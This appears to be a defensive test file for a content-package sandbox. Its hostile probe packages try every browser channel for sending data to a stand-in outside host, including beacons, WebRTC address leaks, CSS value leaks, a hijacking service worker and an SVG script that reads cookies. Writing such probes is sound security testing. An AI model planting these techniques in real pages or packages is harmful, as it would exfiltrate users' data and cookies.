# ruff: noqa: E501 -- tables and scripts read better in long lines
"""Contained packages that want to send something to a stranger: every road out of a page that a browser has."""

from tests.media.hostile.probe import FOLDER, probe

probe(
    "send-fetch",
    "send",
    "fetch, XMLHttpRequest and EventSource to another site",
    """
  await Promise.all([
    attempt("fetch", async () => (await fetch(hit("fetch"))).status),
    attempt("fetch-blind", async () => (await fetch(hit("fetch-blind"), {mode: "no-cors"})).type),
    attempt("fetch-post", async () => (await fetch(hit("fetch-post"), {method: "POST", mode: "no-cors", body: "loot"})).type),
    attempt("fetch-lasting", async () => (await fetch(hit("fetch-lasting"), {mode: "no-cors", keepalive: true})).type),
    attempt("request", () => new Promise((resolve, reject) => {
      const asked = new XMLHttpRequest();
      asked.open("GET", hit("request"));
      asked.onload = () => resolve(asked.status);
      asked.onerror = () => reject(new Error("error event"));
      asked.send();
    })),
    attempt("event-source", () => new Promise((resolve, reject) => {
      const source = new EventSource(hit("event-source"));
      source.onopen = () => resolve("open");
      source.onerror = () => { source.close(); reject(new Error("error event")); };
    }))
  ]);
""",
)

probe(
    "send-beacon",
    "send",
    "Beacons and link pings to another site",
    """
  await attempt("beacon", () => { navigator.sendBeacon(hit("beacon"), "loot"); return ""; });
  await attempt("ping", () => {
    const link = element("a", {href: "#here", ping: hit("ping")}, box);
    link.textContent = "Continue";
    link.click();
    return "";
  });
  window.addEventListener("pagehide", () => navigator.sendBeacon(hit("beacon-late"), "loot"));
  await pause(500);
""",
)

probe(
    "send-socket",
    "send",
    "A WebSocket and a WebTransport to another site",
    """
  await Promise.all([
    attempt("socket", () => new Promise((resolve, reject) => {
      const socket = new WebSocket(hit("socket").replace(/^http/, "ws"));
      socket.onopen = () => resolve("open");
      socket.onerror = () => reject(new Error("error event"));
    })),
    attempt("transport", async () => {
      const transport = new WebTransport(hit("transport").replace(/^http:/, "https:"));
      await transport.ready;
      return "ready";
    })
  ]);
""",
)

probe(
    "send-connection",
    "send",
    "WebRTC: packets to a stranger's STUN server, and the machine's addresses",
    """
  await attempt("connection", () => new Promise((resolve, reject) => {
    if (!window.RTCPeerConnection) { reject(new Error("there is no RTCPeerConnection")); return; }
    const address = ELSEWHERE.replace(/^https?:\\/\\//, "");
    const connection = new RTCPeerConnection({iceServers: [{urls: "stun:" + address},
      {urls: "turn:" + address, username: PACKAGE, credential: "loot"}]});
    connection.createDataChannel("loot");
    connection.onicecandidate = (event) => {
      const line = event.candidate && event.candidate.candidate;
      if (line && /\\b\\d+\\.\\d+\\.\\d+\\.\\d+\\b/.test(line) && !line.includes("0.0.0.0")) { resolve(line); }
    };
    connection.createOffer().then((offer) => connection.setLocalDescription(offer)).catch(reject);
    setTimeout(() => resolve(""), 2000);
  }));
""",
)

probe(
    "send-picture",
    "send",
    "Pictures, films, sounds, captions and icons from another site",
    """
  await Promise.all([
    attempt("picture", () => { const made = element("img", {src: hit("picture"), alt: ""}); return ends(made); }),
    attempt("picture-set", () => { const made = element("img", {srcset: hit("picture-set") + " 1x", alt: ""}); return ends(made); }),
    attempt("picture-lazy", () => ends(element("img", {src: hit("picture-lazy"), loading: "lazy", alt: ""}))),
    attempt("film", () => ends(element("video", {src: hit("film"), poster: hit("poster")}), "loadeddata")),
    attempt("sound", () => ends(element("audio", {src: hit("sound")}), "loadeddata")),
    attempt("input-picture", () => ends(element("input", {type: "image", src: hit("input-picture")}))),
    attempt("drawing-picture", () => {
      box.insertAdjacentHTML("beforeend", "<svg><image href='" + hit("drawing-picture") + "'/><use href='" + hit("use") + "#a'/></svg>");
      return "";
    }),
    attempt("icon", () => { element("link", {rel: "icon", href: hit("icon")}, document.head); return ""; }),
    attempt("table-picture", () => { element("table", {background: hit("table-picture")}); return ""; })
  ]);
  await pause(500);
""",
)

probe("send-style", "send", "Its style sheet loads pictures, fonts and other sheets from another site", """
  tried("style");
  element("input", {value: "secret", class: "probe-value"}, box);
  element("p", {class: "probe-font"}, box).textContent = "Letters in a font of a stranger";
  await attempt("sheet", () => ends(element("link", {rel: "stylesheet", href: hit("sheet")}, document.head)));
  await attempt("inline", () => {
    element("p", {style: "background-image: url('" + hit("inline") + "'); cursor: url('" + hit("cursor") + "'), auto"}, box);
    return "";
  });
  await attempt("font", async () => {
    const face = new FontFace("Thief", "url(" + hit("font-face") + ")");
    await face.load();
    return "loaded";
  });
  await attempt("construct", () => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync("body { background: url('" + hit("constructed") + "') }");
    document.adoptedStyleSheets = [sheet];
    return "";
  });
  await pause(500);
""", style="""@import url("HIT/import");
@font-face { font-family: Stranger; src: url("HIT/font"); }
.probe-font { font-family: Stranger; background: url("HIT/background"); list-style: url("HIT/list"); }
.probe-value[value^="s"] { background: url("HIT/value-starts-with-s"); }
.hostile { border-image: url("HIT/border") 30; mask: url("HIT/mask"); filter: url("HIT/filter#a"); }
.hostile::after { content: url("HIT/content"); }
""")  # fmt: skip

probe(
    "send-script",
    "send",
    "Scripts and modules from another site",
    """
  await Promise.all([
    attempt("script", () => ends(element("script", {src: hit("script.js")}, document.head))),
    attempt("module", () => ends(element("script", {src: hit("module.js"), type: "module"}, document.head))),
    attempt("import", async () => { await import(hit("import.js")); return "imported"; }),
    attempt("inline", () => { element("script", {}, document.head).textContent = "window.ranInline = 1"; return window.ranInline; }),
    attempt("inline-module", async () => {
      const script = document.createElement("script");
      script.type = "module";
      script.textContent = "import '" + hit("inline-module.js") + "'";
      document.head.appendChild(script);
      await pause(300);
      return "";
    }),
    attempt("written", () => {
      const frame = element("iframe", {});
      frame.contentDocument.write("<script src='" + hit("written.js") + "'></" + "script>");
      return "";
    }),
    attempt("library", () => { if (H5P.jQuery) { H5P.jQuery.getScript(hit("library.js")); } return ""; }),
    attempt("import-map", () => {
      const map = element("script", {type: "importmap"}, document.head);
      map.textContent = JSON.stringify({imports: {loot: hit("mapped.js")}});
      return "";
    })
  ]);
  await pause(500);
""",
)

probe(
    "send-worker",
    "send",
    "Workers, whose requests a careless policy forgets",
    """
  const source = "fetch('" + hit("worker-fetch") + "', {mode: 'no-cors'}).then(() => postMessage('sent'), () => postMessage(''));"
    + "try { importScripts('" + hit("worker-import.js") + "'); } catch (error) { /* walled */ }";
  const started = (address) => new Promise((resolve, reject) => {
    const worker = new Worker(address);
    worker.onmessage = (event) => resolve(event.data);
    worker.onerror = () => reject(new Error("error event"));
  });
  await Promise.all([
    attempt("worker-blob", () => started(URL.createObjectURL(new Blob([source])))),
    attempt("worker-data", () => started("data:text/javascript," + encodeURIComponent(source))),
    attempt("worker-elsewhere", () => started(hit("worker.js"))),
    attempt("worklet", async () => { await CSS.paintWorklet.addModule(hit("worklet.js")); return "added"; })
  ]);
""",
)

probe(
    "service-worker",
    "send",
    "Registers a service worker for the whole site",
    """
  const own = (document.querySelector("script[src*='probe.js']") || {src: location.href}).src;
  for (const scope of ["/", undefined]) {
    await attempt("service-worker " + scope, async () => {
      const made = await navigator.serviceWorker.register(new URL("keeper.js", own).href, scope ? {scope: scope} : {});
      return made.scope;
    });
  }
  await attempt("service-worker-list", async () => (await navigator.serviceWorker.getRegistrations()).map((one) => one.scope).join());
""",
    files={f"{FOLDER}/keeper.js": "addEventListener('fetch', e => e.respondWith(new Response('owned')));"},
)

probe(
    "send-hints",
    "send",
    "Hints that make a browser connect early: preconnect, prefetch, preload, prerender",
    """
  const address = new URL(ELSEWHERE);
  tried("hints");
  for (const rel of ["dns-prefetch", "preconnect", "prefetch", "prerender", "modulepreload", "next", "manifest", "alternate stylesheet"]) {
    element("link", {rel: rel, href: hit(rel.replace(" ", "-")), crossorigin: ""}, document.head);
  }
  for (const kind of ["script", "style", "image", "font", "fetch", "document"]) {
    element("link", {rel: "preload", as: kind, href: hit("preload-" + kind), crossorigin: ""}, document.head);
  }
  const loot = "loot-of-" + PACKAGE + "." + address.hostname;
  element("link", {rel: "dns-prefetch", href: "//" + loot}, document.head);
  const rules = element("script", {type: "speculationrules"}, document.head);
  rules.textContent = JSON.stringify({prefetch: [{source: "list", urls: [hit("speculation")]}]});
  await pause(1500);
""",
)

probe(
    "send-frame",
    "send",
    "Frames, objects and fenced frames with another site in them",
    """
  for (const [name, attributes] of [["iframe", {src: hit("frame")}], ["object", {data: hit("object")}],
    ["embed", {src: hit("embed")}], ["iframe", {srcdoc: "<img src='" + hit("srcdoc-picture") + "'><script src='" + hit("srcdoc.js")
      + "'></" + "script><meta http-equiv=refresh content='0;url=" + hit("srcdoc-refresh") + "'>"}],
    ["iframe", {src: "data:text/html,<img src='" + hit("data-picture") + "'>"}],
    ["iframe", {src: "javascript:parent.location='" + hit("pseudo") + "'"}], ["fencedframe", {src: hit("fenced")}],
    ["portal", {src: hit("portal")}], ["frame", {src: hit("old-frame")}]]) {
    tried(name + " " + Object.keys(attributes)[0]);
    element(name, attributes, box);
  }
  const blob = URL.createObjectURL(new Blob(["<img src='" + hit("blob-picture") + "'>"], {type: "text/html"}));
  element("iframe", {src: blob}, box);
  await pause(1500);
""",
)

probe(
    "send-form",
    "send",
    "Forms sent to another site: itself, on top, in a new window",
    """
  for (const target of ["_self", "_top", "_parent", "_blank", "somewhere"]) {
    await attempt("form " + target, async () => {
      const form = element("form", {action: hit("form" + target), method: target === "_top" ? "get" : "post", target: target}, box);
      element("input", {name: "loot", value: "1"}, form);
      form.submit();
      await pause(300);
      return "";
    });
  }
  await attempt("form-button", async () => {
    const form = element("form", {action: "#"}, box);
    element("button", {formaction: hit("form-button"), formtarget: "_blank"}, form).click();
    await pause(300);
    return "";
  });
""",
)

probe(
    "send-base",
    "send",
    "Changes what relative addresses mean, for itself and for the player",
    """
  tried("base");
  element("base", {href: ELSEWHERE + "/hit/" + PACKAGE + "/base/"}, document.head);
  const first = document.createElement("base");
  first.href = hit("base-first/");
  document.head.insertBefore(first, document.head.firstChild);
  await attempt("relative-picture", () => ends(element("img", {src: "relative.png", alt: ""})));
  await attempt("relative-script", () => ends(element("script", {src: "relative.js"}, document.head)));
  await attempt("relative-fetch", async () => {
    const answer = await fetch("relative.json");  // among its own files there is none of that name
    return answer.ok && answer.status;
  });
""",
)

probe("send-library-drawing", "send", "A drawing with a script in its own library, opened in every way", """
  const own = new URL("drawing.svg", (document.querySelector("script[src*='probe.js']") || {src: location.href}).src).href;
  for (const [name, key] of [["img", "src"], ["object", "data"], ["embed", "src"], ["iframe", "src"]]) {
    tried("drawing " + name);
    element(name, {[key]: own, alt: ""}, box);
  }
  await pause(1000);
""", files={f"{FOLDER}/drawing.svg": """<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>
  for (const other of new Set([parent, top])) {
    other.postMessage({continuum: 1, type: "tried", package: __PACKAGE__, what: "drawing-script"}, "*");
  }
  fetch("HIT/drawing-fetch", {mode: "no-cors"});
  try { top.postMessage({continuum: 1, type: "got", package: __PACKAGE__, what: "drawing-cookie", value: document.cookie}, "*"); }
  catch (error) { /* walled */ }
</script><image href="HIT/drawing-image"/></svg>
"""})  # fmt: skip

probe("send-content-links", "send", "Its content, not its script, names pictures and films of another site", """
  const walk = (value) => typeof value === "object" && value ? Object.values(value).flatMap(walk) : [value];
  for (const address of walk(parameters).filter((value) => String(value).includes("/hit/"))) {
    tried("content " + address.replace(/.*\\//, ""));
    const path = H5P.getPath ? H5P.getPath(address, id) : address;
    element("img", {src: path, alt: ""}, box);
    element("video", {src: path}, box);
  }
  await pause(500);
""", content={"image": {"path": "HIT/content-image", "mime": "image/png"}, "files": [{"path": "HIT/content-film", "mime": "video/YouTube"}],
              "text": "<img src='HIT/content-text' onerror='parent.postMessage(1, \"*\")'>"})  # fmt: skip
